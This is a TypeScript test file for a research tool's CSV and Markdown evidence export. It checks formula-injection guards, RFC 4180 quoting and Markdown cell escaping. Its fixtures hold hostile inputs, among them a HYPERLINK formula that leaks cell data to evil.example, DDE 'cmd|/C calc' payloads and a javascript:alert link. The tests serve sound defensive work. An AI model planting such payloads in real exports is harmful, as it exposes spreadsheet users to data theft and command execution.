import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvText, evidenceCsv, evidenceMarkdown } from '../../../src/main/export/evidence';
import type { ClaimRecord, Evidence } from '../../../src/shared/types';
import { bytes, tempWorkbench } from '../helpers';
import { read } from './markdown-oracle';

/** A strict RFC 4180 reader: CRLF records, quoted fields with doubled quotes; anything else throws. */
function parseCsv(csv: string): string[][] {
  const rows: string[][] = [];
  let i = 0;
  if (!csv.endsWith('\r\n')) throw new Error('the last record must end with CRLF');
  while (i < csv.length) {
    const row: string[] = [];
    for (;;) {
      let field = '';
      if (csv[i] === '"') {
        i++;
        for (;;) {
          if (i >= csv.length) throw new Error('unterminated quoted field');
          if (csv[i] === '"') {
            if (csv[i + 1] === '"') {
              field += '"';
              i += 2;
            } else {
              i++;
              break;
            }
          } else field += csv[i++];
        }
      } else {
        while (i < csv.length && csv[i] !== ',' && csv[i] !== '\r') {
          if (csv[i] === '"' || csv[i] === '\n') throw new Error(`a quote or line feed in an unquoted field at ${i}`);
          field += csv[i++];
        }
      }
      row.push(field);
      if (csv[i] === ',') {
        i++;
        continue;
      }
      if (csv[i] === '\r' && csv[i + 1] === '\n') {
        i += 2;
        break;
      }
      throw new Error(`expected a comma or CRLF at ${i}`);
    }
    rows.push(row);
  }
  return rows;
}

const HEADER = [
  'question',
  'source',
  'author',
  'date',
  'measure',
  'low',
  'high',
  'unit',
  'approx',
  'status',
  'preferred',
  'preferred_reason',
  'event',
  'passage',
  'quote',
  'link',
  'url',
  'accessed',
];
const PROJECT = '3f2b8c1e-0d4a-4b6e-9c1f-2a7d5e8b9c10';

function claim(patch: Partial<ClaimRecord>): ClaimRecord {
  return {
    id: 1,
    uuid: 'c1a2b3c4-0d4a-4b6e-9c1f-2a7d5e8b9c10',
    sourceId: 4,
    sourceUuid: '5e0c7a11-0d4a-4b6e-9c1f-2a7d5e8b9c10',
    sourceTitle: 'T',
    sourceAuthor: null,
    sourceDate: null,
    quote: 'q',
    start: 0,
    end: 1,
    measure: 'executed',
    low: 5,
    high: 5,
    unit: 'people',
    approx: false,
    event: '',
    status: 'confirmed',
    origin: 'manual',
    orphaned: false,
    questionId: 1,
    preferred: false,
    preferredReason: '',
    passage: 3,
    ...patch,
  };
}

function evidence(claims: ClaimRecord[], label = 'Q'): Evidence {
  return {
    question: { id: 1, label, notes: '', claims: claims.length },
    claims,
    span: null,
    median: null,
    outliers: [],
    logScale: false,
    unit: 'people',
    measure: null,
    period: null,
    warnings: [],
  };
}

describe('evidence CSV', () => {
  it('neutralises formulas, keeps numbers in numeric columns, and reads back cell for cell', () => {
    const hostile = claim({
      sourceTitle: '=HYPERLINK("http://evil.example?x="&A1,"click")',
      sourceAuthor: "+cmd|' /C calc'!A0",
      sourceDate: '-2+3',
      preferredReason: '@SUM(1+1)*cmd|"/C calc"!A0',
      event: '\tTab',
      quote: '\rCR, "quoted", and\nline',
      low: -5,
      high: 1200000,
      preferred: true,
    });
    const refs = new Map([[4, { url: 'https://e.org/a,b', accessed: '2024-05-01' }]]);
    const csv = evidenceCsv([evidence([hostile], '=1+1')], PROJECT, refs);
    const rows = parseCsv(csv);
    expect(rows[0]).toEqual(HEADER);
    const row = Object.fromEntries(HEADER.map((h, i) => [h, rows[1]![i]!]));
    expect(row).toMatchObject({
      question: "'=1+1",
      source: `'${hostile.sourceTitle}`,
      author: `'${hostile.sourceAuthor}`,
      date: "'-2+3",
      preferred_reason: `'${hostile.preferredReason}`,
      event: "'\tTab",
      quote: `'${hostile.quote}`,
      low: '-5',
      high: '1200000',
      passage: '3',
      preferred: 'true',
      url: 'https://e.org/a,b',
      accessed: '2024-05-01',
    });
    expect(row.link).toBe(`sourcebench://open?project=${PROJECT}&source=5e0c7a11-0d4a-4b6e-9c1f-2a7d5e8b9c10&passage=3&start=0&end=1`);
    for (const cell of rows[1]!.filter((_, i) => !['low', 'high', 'passage'].includes(HEADER[i]!))) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('round-trips any text (property)', () => {
    const text = fc.oneof(fc.string({ unit: 'grapheme' }), fc.constantFrom('=1', '+1', '-1', '@a', '\t', '\r', '"', ',', '\r\n', "'", "'=x"));
    fc.assert(
      fc.property(text, text, text, text, (title, author, quote, label) => {
        const csv = evidenceCsv([evidence([claim({ sourceTitle: title, sourceAuthor: author, quote })], label)], PROJECT);
        const rows = parseCsv(csv);
        expect(rows).toHaveLength(2);
        expect(rows[1]).toHaveLength(HEADER.length);
        for (const [i, v] of [
          [0, label],
          [1, title],
          [2, author],
          [14, quote],
        ] as const) {
          expect(rows[1]![i]).not.toMatch(/^[=+\-@\t\r]/);
          // Exactly the text, with the guard in front where it starts like a formula.
          expect(rows[1]![i]).toBe(/^[=+\-@\t\r]/.test(v) ? `'${v}` : v);
        }
      }),
      { numRuns: 500 },
    );
  });

  it('quotes a guarded cell', () => {
    expect(csvText('=1+1')).toBe(`"'=1+1"`);
    expect(csvText('plain')).toBe('plain');
    expect(csvText('a,b')).toBe('"a,b"');
  });

  it('fills url and accessed from the source, through the workbench', async () => {
    const { wb } = tempWorkbench();
    const html = `<!doctype html><html><head><title>=HYPERLINK(&quot;http://evil.example&quot;)</title><meta name="citation_title" content="=HYPERLINK(&quot;http://evil.example&quot;)"><meta name="citation_author" content="=HYPERLINK(&quot;http://evil.example&quot;)">
      <meta name="dc.date.accessed" content="2024-03-02"><link rel="canonical" href="https://archive.example.org/order"></head>
      <body><article><h1>Order</h1><p>In 1937 some 681,692 people were executed, the records say.</p></article></body></html>`;
    const out = await wb.importFile({ name: 'order.html', bytes: bytes(html) });
    if (out.status !== 'imported') throw new Error('import failed');
    const claims = await wb.listClaims({ sourceId: out.source.id });
    expect(claims.length).toBeGreaterThan(0);
    const q = await wb.createQuestion({ label: 'Executions', claimIds: claims.map((c) => c.id) });
    const csv = await wb.exportEvidence({ questionId: q.id, format: 'csv' });
    const rows = parseCsv(csv.content);
    const row = Object.fromEntries(HEADER.map((h, i) => [h, rows[1]![i]!]));
    // A formula in the title reaches the spreadsheet as text; the one in the author's tag is no name, so it is not kept at all.
    expect(row.source!.startsWith("'=HYPERLINK")).toBe(true);
    expect(row.author).toBe('');
    expect(row.url).toBe('https://archive.example.org/order');
    expect(row.accessed).toBe('2024-03-02');
    const { id } = await wb.getProject();
    expect(row.link).toContain(`project=${id}`);
    expect(csv.content).not.toContain(wb.projectPath);
  });
});

describe('evidence Markdown table', () => {
  it('keeps a | or a line break in a reason or a quote inside its cell, as text', () => {
    const md = evidenceMarkdown(
      [
        evidence(
          [
            claim({
              quote: 'a | b\nnext line *x*',
              preferred: true,
              preferredReason: 'archival | count\nchecked <b>',
              sourceTitle: '[x](javascript:alert(1))',
              sourceDate: '1937|38',
            }),
          ],
          '# Q | 1',
        ),
      ],
      PROJECT,
    );
    const lines = md.trim().split('\n');
    const table = lines.filter((l) => l.startsWith('|'));
    expect(table).toHaveLength(3);
    for (const l of table) expect(l.split(/(?<!\\)\|/).length).toBe(8);
    const tree = read(md);
    expect([...tree.types].sort()).toEqual(
      ['heading', 'link', 'paragraph', 'table', 'tableCell', 'tableRow', 'text'].filter((t) => t !== 'paragraph'),
    );
    expect(tree.text).toContain('# Q | 1');
    expect(tree.text).toContain('a | b next line *x*');
    expect(tree.text).toContain('preferred: archival | count checked <b>');
    expect(tree.text).toContain('[x](javascript:alert(1))');
    expect(tree.text).toContain('1937|38');
  });
});
